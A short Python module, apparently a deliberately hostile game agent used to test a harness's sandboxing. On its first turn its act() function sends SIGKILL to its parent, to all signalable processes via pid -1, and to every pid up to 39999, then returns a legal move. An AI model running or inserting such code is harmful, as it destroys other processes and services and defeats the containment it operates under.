"""Kills its parent and every pid it can see."""
import os
import signal

attacked = False


def act(observation, legal_actions):
    global attacked
    if attacked:
        return legal_actions[0]
    attacked = True
    parent = os.getppid()
    print("parent pid", parent, "own pid", os.getpid(), flush=True)
    # A parent pid of 0 means the parent is outside this pid namespace; kill(0) would only hit ourselves.
    for target in [parent] * (parent != 0) + [-1]:
        try:
            os.kill(target, signal.SIGKILL)
            print("sent SIGKILL to", target, flush=True)
        except OSError as exc:
            print("refused kill", target, exc, flush=True)
    for pid in range(1, 40000):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid, flush=True)
        except OSError:
            pass
    return legal_actions[0]
